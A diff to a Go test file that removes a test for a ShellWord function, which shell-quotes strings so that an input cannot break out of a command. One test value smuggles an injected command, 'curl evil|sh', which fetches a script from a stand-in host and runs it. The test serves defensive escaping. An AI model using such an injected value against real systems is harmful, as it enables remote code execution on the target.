@@ -26,12 +26,3 @@ func TestLiteral(t *testing.T) {
 		}
 	}
 }
-
-// TestShellWord: a word of others is one word of a command.
-func TestShellWord(t *testing.T) {
-	for word, want := range map[string]string{"eu-west-1": "eu-west-1", "eu-west-1;curl evil|sh": "'eu-west-1;curl evil|sh'", "it's": `'it'\''s'`, "": "''"} {
-		if got := ShellWord(word); got != want {
-			t.Errorf("ShellWord(%q) = %s, want %s", word, got, want)
-		}
-	}
-}
